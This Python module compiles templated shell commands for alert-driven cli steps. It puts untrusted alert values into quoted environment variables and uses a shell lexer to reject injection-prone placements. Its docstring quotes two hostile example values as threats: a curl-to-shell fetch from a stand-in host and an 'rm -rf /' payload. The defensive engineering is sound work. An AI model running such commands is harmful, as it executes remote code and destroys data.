"""Template expressions in a cli step's shell `command`, made into quoted variables.

Alert labels and annotations are untrusted (ARCHITECTURE section 7): rendering them into
a script would let a label such as `$(curl evil | sh)` or `'; rm -rf /; '` run as code.
So a command is never rendered as a whole. `compile_command` (once, at apply time)
replaces each `{{ … }}` expression with a reference to an environment variable `CM_T<n>`,
quoted for the shell context at that spot; `command_env` (per run) renders each
expression alone into that variable. The shell then expands the value as data: no
command substitution, field splitting, globbing or quote breaking can come from it.

Quoting by context, found by a small shell lexer (a stack of contexts, so `$( )`,
backticks and `${ }` nest): plain code `"${CM_T0}"`; inside "…" and unquoted-delimiter
heredoc bodies `${CM_T0}`; inside '…' `'"${CM_T0}"'`; inside $'…' `'"${CM_T0}"$'`;
comments get `${CM_T0}`, which does nothing.

Refused, with a message saying what to write instead: template control flow
(`{{ if }}`, `{% %}`); an expression in a quoted-delimiter heredoc (`<<'EOF'`, no
expansion there), in a heredoc delimiter, in `$(( ))` arithmetic, right after `$` or a
backslash, as a `${…}` parameter name, or as a command name (its value would pick the
program to run; assignments `NAME={{ … }}` and redirection targets are fine); an
argument of `eval` or `trap` and the script of `sh -c` (any shell name, `-ec` too, options
after `-c` such as `-e -o errexit --` skipped), also behind `command`, `builtin` or `exec`,
which put the next word in command position again; a
variable assigned a template value (`X={{ … }}`, `export X=…`) that is used inside any
`$(( ))` of the command: bash evaluates a variable's value there as an expression and
runs command substitution in an array subscript (`a[$(cmd)]`).

Limits: the value stays one argument, so a value starting with "-" can still be read as
an option (write `--` before it); other programs that parse an argument as shell code
again (`ssh host cmd`, `kubectl exec … -- sh -c`) reopen the hole: pass the value as a
positional argument (`sh -c 'echo "$1"' _ {{ .x }}`). A template value copied to another
variable first (`Y=$X`) is not traced into arithmetic: cli steps run under dash, which
never evaluates a value as an expression. Wrappers (`env`, `sudo`,
`xargs`) are not recognised as command position. `case` patterns closed by `)` inside
`$( )` end the substitution early; an expression as a case pattern at the start of a line
is refused as a command name. An empty value is still an (empty) argument. Trim markers
(`{{-`, `-}}`) trim the script text around the reference. NUL bytes and unencodable
surrogates in a value are dropped, as no environment string can hold them.
"""

from __future__ import annotations

import enum
import functools
import re
from collections.abc import Mapping
from dataclasses import dataclass
from typing import Any, NoReturn

from .templating import SegmentKind, TemplateError, check, render, scan

VAR_PREFIX = "CM_T"
MAX_ENV_STRING_BYTES = 128 * 1024  # Linux MAX_ARG_STRLEN: one "NAME=value\0" string
_HOLE = "\x00"
_KEYWORDS = frozenset({"!", "{", "if", "then", "else", "elif", "do", "while", "until", "time"})
_ASSIGNMENT = re.compile(r"[A-Za-z_][A-Za-z0-9_]*=")
_PARAM_OPERATOR = re.compile(r"[:#%/^,@?=+\-\[]")
_WORD_END = " \t\n;&|()<>"
_REDIRECT = re.compile(r"&>>?|<>|[<>][&>|]?")
_NAME = re.compile(r"[A-Za-z_][A-Za-z0-9_]*")
_EVAL_LIKE = frozenset({"eval", "trap"})
_SHELLS = frozenset({"sh", "dash", "bash", "zsh", "ksh", "mksh", "ash", "busybox"})
_DASH_C = re.compile(r"-[a-zA-Z]*c[a-zA-Z]*")
# builtins whose next word is a command name again (`command eval …`, `exec prog`)
_PREFIXES = frozenset({"command", "builtin", "exec"})


@dataclass(frozen=True)
class CompiledCommand:
    script: str
    expressions: tuple[str, ...]

    @property
    def names(self) -> tuple[str, ...]:
        return tuple(f"{VAR_PREFIX}{i}" for i in range(len(self.expressions)))


class _Ctx(enum.Enum):
    CODE = "script"
    SUBST = "$( )"
    BACKTICK = "` `"
    SQUOTE = "' '"
    DQUOTE = '" "'
    ANSI = "$' '"
    PARAM = "${ }"
    ARITH = "$(( ))"
    COMMENT = "comment"
    HEREDOC = "heredoc"
    QUOTED_HEREDOC = "quoted heredoc"


_CODE = frozenset({_Ctx.CODE, _Ctx.SUBST, _Ctx.BACKTICK})
_EXPANDING = frozenset({_Ctx.DQUOTE, _Ctx.HEREDOC})
_HEREDOCS = frozenset({_Ctx.HEREDOC, _Ctx.QUOTED_HEREDOC})
_MAY_END_OPEN = frozenset({_Ctx.CODE, _Ctx.COMMENT, *_HEREDOCS})
_CLOSERS = {_Ctx.SQUOTE: "'", _Ctx.ANSI: "'", _Ctx.DQUOTE: '"', _Ctx.COMMENT: "\n"}


@dataclass
class _Frame:
    ctx: _Ctx
    dq: bool = False  # a ${ } inside double quotes or a heredoc body
    depth: int = 0  # open ( in $( ) and $(( )), open { in ${ }
    delim: str = ""  # heredoc terminator
    tabs: bool = False  # <<- strips leading tabs
    word: str = ""  # code frames and ${ }: the word read so far
    command: bool = True  # code frames: the next word is a command name
    target: bool = False  # code frames: the next word is a redirection target
    name: str = ""  # code frames: the current simple command's name
    prev: str = ""  # code frames: the last complete word
    script: bool = False  # code frames: a shell's -c was read and its script is still to come
    quoted: bool = False  # code frames: the word read so far has a quoted part
    begin: int = 0  # $(( )): where its text starts in the output


@functools.lru_cache(maxsize=512)
def compile_command(command: str) -> CompiledCommand:
    """Turn a templated shell command into a script that reads expressions from CM_T<n>.

    Cached: step functions compile the pinned command again on every run.
    """
    if _HOLE in command:
        raise TemplateError("a command cannot contain NUL bytes", template=command)
    parts: list[str] = []
    expressions: list[str] = []
    lines: list[int] = []
    strip_next = False
    for seg in scan(command):
        if seg.trim_left:
            parts = ["".join(parts).rstrip()]
        text = ""
        if seg.kind is SegmentKind.TEXT:
            text = seg.source
        elif seg.kind is SegmentKind.RAW:
            text = seg.inner
        elif seg.kind is SegmentKind.OUTPUT:
            try:
                check(seg.source)
            except TemplateError as exc:
                raise TemplateError(exc.detail, template=command, line=seg.line) from None
            text = _HOLE
            expressions.append(seg.source)
            lines.append(seg.line)
        elif seg.kind is not SegmentKind.COMMENT:
            raise TemplateError(
                f"{' '.join(seg.source.split())}: template control flow cannot be made"
                ' shell-safe; branch in the shell on the value, e.g. if [ "{{ .alert.severity }}"'
                " = critical ]; then …; fi",
                template=command,
                line=seg.line,
            )
        parts.append(text.lstrip() if strip_next else text)
        strip_next = seg.trim_right
    holed = "".join(parts)
    if not expressions:
        return CompiledCommand(holed, ())
    return CompiledCommand(_Lexer(command, holed, expressions, lines).run(), tuple(expressions))


def clean_value(value: str) -> str:
    """A rendered value as exec can carry it: NUL bytes and unencodable surrogates dropped."""
    return value.replace(_HOLE, "").encode("utf-8", "ignore").decode("utf-8")


def command_env(compiled: CompiledCommand, context: Mapping[str, Any]) -> dict[str, str]:
    """Render each expression of a compiled command into its environment variable."""
    env: dict[str, str] = {}
    for name, expression in zip(compiled.names, compiled.expressions, strict=True):
        value = clean_value(render(expression, context))
        size = len(name) + 2 + len(value.encode("utf-8"))
        if size > MAX_ENV_STRING_BYTES:
            raise TemplateError(
                f"renders {size} bytes; an environment variable holds at most"
                f" {MAX_ENV_STRING_BYTES}: pass large data through a file instead",
                template=expression,
            )
        env[name] = value
    return env


def _reference(name: str, frame: _Frame) -> str:
    if frame.ctx is _Ctx.SQUOTE:
        return f"'\"${{{name}}}\"'"
    if frame.ctx is _Ctx.ANSI:
        return f"'\"${{{name}}}\"$'"
    if frame.ctx in _EXPANDING or frame.ctx is _Ctx.COMMENT or frame.dq:
        return f"${{{name}}}"
    return f'"${{{name}}}"'


class _Lexer:
    def __init__(self, command: str, text: str, expressions: list[str], lines: list[int]) -> None:
        self.command, self.text = command, text
        self.expressions, self.lines = expressions, lines
        self.stack = [_Frame(_Ctx.CODE)]
        self.pending: list[_Frame] = []
        self.out: list[str] = []
        self.i = 0
        self.holes = 0
        self.line_start = False
        self.tainted: dict[str, int] = {}  # variable assigned a template value -> its hole
        self.arithmetic: list[tuple[str, int]] = []  # text of each $(( )) and its line

    def refuse(self, detail: str) -> NoReturn:
        if self.text[self.i : self.i + 1] == _HOLE:
            expression = self.expressions[self.holes]
            raise TemplateError(
                f"{expression} {detail}", template=self.command, line=self.lines[self.holes]
            )
        line = self.text.count("\n", 0, self.i) + 1
        raise TemplateError(detail, template=self.command, line=line)

    def emit(self, count: int = 1) -> str:
        chunk = self.text[self.i : self.i + count]
        self.out.append(chunk)
        self.i += count
        frame = self.stack[-1]
        if frame.ctx in _CODE or frame.ctx is _Ctx.PARAM:
            frame.word += chunk
        return chunk

    def raw(self, count: int) -> None:
        self.out.append(self.text[self.i : self.i + count])
        self.i += count

    def push(self, ctx: _Ctx, opener: int, **fields: Any) -> None:
        self.emit(opener)
        self.stack.append(_Frame(ctx, **fields))

    def run(self) -> str:
        while self.i < len(self.text):
            frame = self.stack[-1]
            line_start, self.line_start = self.line_start, False
            if line_start and frame.ctx in _HEREDOCS and self.heredoc_end(frame):
                continue
            if self.text[self.i] == _HOLE:
                self.hole(frame)
            elif frame.ctx in _CODE:
                self.code(frame)
            else:
                self.quoted(frame)
        for frame in self.stack:
            if frame.ctx not in _MAY_END_OPEN:
                self.refuse(f"unterminated {frame.ctx.value} in the command")
        self.check_arithmetic()
        return "".join(self.out)

    def check_arithmetic(self) -> None:
        """Refuse a variable that holds a template value where the shell does arithmetic.

        bash evaluates a variable's value inside $(( )) as an expression, and an array
        subscript there runs command substitution: `a[$(cmd)]` runs cmd. dash does not,
        and cli steps run under dash, but a command must stay safe under any sh.
        """
        for text, line in self.arithmetic:
            for name in _NAME.findall(text):
                hole = self.tainted.get(name)
                if hole is None:
                    continue
                raise TemplateError(
                    f"${name} holds the template value {self.expressions[hole]} and is used in"
                    " $(( )), where bash runs a value like a[$(cmd)] as code; check it is a"
                    f' number into a new variable first: N=$(printf %d "${name}") || exit 1',
                    template=self.command, line=line,
                )

    def hole(self, frame: _Frame) -> None:
        if frame.ctx is _Ctx.QUOTED_HEREDOC:
            self.refuse("is inside a quoted heredoc (<<'EOF'), where variables never expand")
        if frame.ctx is _Ctx.ARITH:
            self.refuse("is inside $(( )); assign it to a variable and check it is a number")
        if frame.ctx is _Ctx.PARAM and not _PARAM_OPERATOR.search(frame.word):
            self.refuse("cannot be a ${ } parameter name")
        for below in reversed(self.stack):
            if below.ctx in (_Ctx.HEREDOC, _Ctx.COMMENT):
                break
            if below.ctx in _CODE:
                assigned = _ASSIGNMENT.match(below.word)
                if below.command and not below.target and not assigned:
                    self.refuse("is a command name: its value would choose the program to run")
                if below.name in _EVAL_LIKE:
                    self.refuse(f"is an argument of {below.name}, which runs it as shell code;"
                                " branch on the value instead")
                if below.name in _SHELLS and below.script:
                    self.refuse(f"is the script of {below.name} -c; pass it as a positional"
                                f" argument instead: {below.name} -c 'echo \"$1\"' _ {{{{ … }}}}")
                if assigned:
                    self.tainted[assigned.group()[:-1]] = self.holes
                break
        self.out.append(_reference(f"{VAR_PREFIX}{self.holes}", frame))
        if frame.ctx in _CODE or frame.ctx is _Ctx.PARAM:
            frame.word += _HOLE
        self.holes += 1
        self.i += 1

    def code(self, frame: _Frame) -> None:
        text, char = self.text, self.text[self.i]
        if char in _WORD_END:
            self.end_word(frame)
        if char in "\n;&|()":
            frame.name = frame.prev = ""
            frame.script = False
        if char == "\\":
            self.escape()
        elif char == "'":
            frame.quoted = True
            self.push(_Ctx.SQUOTE, 1)
        elif char == '"':
            frame.quoted = True
            self.push(_Ctx.DQUOTE, 1)
        elif char == "`" and frame.ctx is _Ctx.BACKTICK:
            self.end_word(frame)
            self.emit()
            self.stack.pop()
        elif char == "`":
            self.push(_Ctx.BACKTICK, 1)
        elif char == "$":
            self.dollar(frame)
        elif char == "#" and not frame.word:
            self.push(_Ctx.COMMENT, 1)
        elif text.startswith("<<<", self.i):
            self.raw(3)
            frame.target = True
        elif text.startswith("<<", self.i):
            self.heredoc()
        elif redirect := _REDIRECT.match(text, self.i):
            self.raw(len(redirect.group()))
            frame.target = True
        elif char == ")" and frame.ctx is _Ctx.SUBST and not frame.depth:
            self.emit()
            self.stack.pop()
        else:
            frame.depth += (char == "(") - (char == ")" and frame.depth > 0)
            frame.command = frame.command or char in "\n;&|()"
            self.out.append(char)
            self.i += 1
            if char == "\n":
                self.start_heredoc()
            elif char not in _WORD_END:
                frame.word += char

    def end_word(self, frame: _Frame) -> None:
        word, frame.word = frame.word, ""
        quoted, frame.quoted = frame.quoted, False
        if not (word or quoted) or (word.isdigit() and _REDIRECT.match(self.text, self.i)):
            return
        if frame.target:
            frame.target = False
        elif word not in _KEYWORDS and not _ASSIGNMENT.match(word):
            if frame.command:
                base = word.rsplit("/", 1)[-1]
                if base in _PREFIXES or (frame.name in _PREFIXES and word.startswith("-")):
                    frame.name = base if base in _PREFIXES else frame.name
                    frame.prev = word
                    return  # `command eval`, `exec -a x prog`: the command name is still to come
                frame.name = base
            elif frame.name in _SHELLS:
                self.shell_argument(frame, word, quoted)
            frame.command = False
        frame.prev = word

    def shell_argument(self, frame: _Frame, word: str, quoted: bool) -> None:
        """Follow a shell's options to its -c script: `sh -c -e -o errexit -- SCRIPT`."""
        if not frame.script:
            frame.script = bool(_DASH_C.fullmatch(word))
        elif quoted or not (word.startswith(("-", "+")) or frame.prev in ("-o", "+o")):
            frame.script = False  # that word was the script; what follows is $0, $1, …

    def quoted(self, frame: _Frame) -> None:
        ctx, char = frame.ctx, self.text[self.i]
        if char == _CLOSERS.get(ctx):
            if ctx is not _Ctx.COMMENT:
                self.emit()
            self.stack.pop()
        elif ctx in (_Ctx.SQUOTE, _Ctx.QUOTED_HEREDOC, _Ctx.COMMENT):
            self.emit()
            self.line_start = char == "\n" and ctx in _HEREDOCS
        elif char == "\\":
            self.escape()
        elif char == "$":
            self.dollar(frame)
        elif char == "`" and ctx is not _Ctx.ANSI:
            self.push(_Ctx.BACKTICK, 1)
        elif ctx is _Ctx.PARAM:
            self.param(frame, char)
        elif ctx is _Ctx.ARITH and self.text.startswith("))", self.i) and not frame.depth:
            self.emit(2)
            self.stack.pop()
            line = self.text.count("\n", 0, self.i) + 1
            self.arithmetic.append(("".join(self.out[frame.begin:]), line))
        else:
            if ctx is _Ctx.ARITH:
                frame.depth += (char == "(") - (char == ")" and frame.depth > 0)
            self.emit()
            self.line_start = char == "\n" and ctx in _HEREDOCS

    def param(self, frame: _Frame, char: str) -> None:
        if char == "}" and not frame.depth:
            self.emit()
            self.stack.pop()
        elif char == '"':
            self.push(_Ctx.DQUOTE, 1)
        elif char == "'" and not frame.dq:
            self.push(_Ctx.SQUOTE, 1)
        else:
            frame.depth += (char == "{") - (char == "}")
            self.emit()

    def escape(self) -> None:
        if self.text[self.i + 1 : self.i + 2] == _HOLE:
            self.i += 1
            self.refuse("follows a backslash; remove the backslash")
        if self.text[self.i + 1 : self.i + 2] == "\n":
            self.raw(2)
        else:
            self.emit(2)

    def dollar(self, frame: _Frame) -> None:
        after = self.text[self.i + 1 : self.i + 3]
        code = frame.ctx in _CODE
        if after[:1] == _HOLE:
            self.i += 1
            self.refuse("follows '$'; write the expression on its own, not after '$'")
        if after == "((":
            self.push(_Ctx.ARITH, 3, begin=len(self.out) + 1)
        elif after[:1] == "(":
            self.push(_Ctx.SUBST, 2)
        elif after[:1] == "{":
            dq = frame.ctx in _EXPANDING or frame.dq
            self.push(_Ctx.PARAM, 2, dq=dq)
        elif after[:1] == "'" and code:
            self.push(_Ctx.ANSI, 2)
        elif after[:1] == '"' and code:
            self.push(_Ctx.DQUOTE, 2)
        else:
            self.emit(2 if after[:1] == "$" else 1)

    def heredoc(self) -> None:
        text, j = self.text, self.i + 2
        tabs = text.startswith("-", j)
        j += tabs
        while j < len(text) and text[j] in " \t":
            j += 1
        delim, quoted = "", False
        while j < len(text) and text[j] not in _WORD_END:
            char = text[j]
            if char in "'\"":
                close = text.find(char, j + 1)
                close = len(text) if close < 0 else close
                delim, quoted, part = delim + text[j + 1 : close], True, text[j : close + 1]
            elif char == "\\":
                delim, quoted, part = delim + text[j + 1 : j + 2], True, text[j : j + 2]
            else:
                delim, part = delim + char, char
            if _HOLE in part:
                self.i = j + part.index(_HOLE)
                self.refuse("is in a heredoc delimiter; delimiters must be literal")
            j += len(part)
        if not delim:
            self.refuse("a heredoc (<<) needs a delimiter word")
        ctx = _Ctx.QUOTED_HEREDOC if quoted else _Ctx.HEREDOC
        self.pending.append(_Frame(ctx, delim=delim, tabs=tabs))
        self.out.append(text[self.i : j])
        self.i = j

    def start_heredoc(self) -> None:
        if self.pending:
            self.stack.append(self.pending.pop(0))
            self.line_start = True

    def heredoc_end(self, frame: _Frame) -> bool:
        end = self.text.find("\n", self.i)
        end = len(self.text) if end < 0 else end
        line = self.text[self.i : end]
        if (line.lstrip("\t") if frame.tabs else line) != frame.delim:
            return False
        self.out.append(self.text[self.i : end + 1])
        self.i = end + 1
        self.stack.pop()
        self.start_heredoc()
        return True
